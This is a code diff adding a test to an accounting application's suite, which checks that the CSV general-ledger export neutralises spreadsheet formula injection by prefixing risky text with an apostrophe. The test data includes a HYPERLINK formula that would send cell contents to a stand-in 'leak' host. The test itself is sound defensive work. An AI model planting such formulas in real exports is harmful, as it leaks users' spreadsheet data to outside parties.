@@ -227,3 +227,21 @@ async def test_random_postings_and_reversals_keep_the_books_balanced(
         )
     ).json()
     assert pnl["result"] == sheet["result"]
+
+
+async def test_a_csv_report_quotes_a_text_a_spreadsheet_would_run_as_a_formula(
+    client: httpx.AsyncClient, accountant: dict[str, str]
+) -> None:
+    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"Beleg")'
+    await book(client, accountant, day="2026-03-15", text=formula)
+    await book(client, accountant, day="2026-03-16", text="-Storno Kasse")
+    ledger = await client.get(
+        f"{REPORTS}/general-ledger",
+        params={"account": "8400", "from": "2026-03-01", "to": "2026-03-31"},
+        headers={**accountant, "Accept": "text/csv"},
+    )
+    assert ledger.status_code == 200, ledger.text
+    rows = list(csv.DictReader(io.StringIO(ledger.text)))
+    assert [r["text"] for r in rows] == ["'" + formula, "'-Storno Kasse"]
+    assert [r["credit"] for r in rows] == ["100.00", "100.00"]  # amounts are left as they are
+    assert rows[-1]["balance"] == "-200.00"
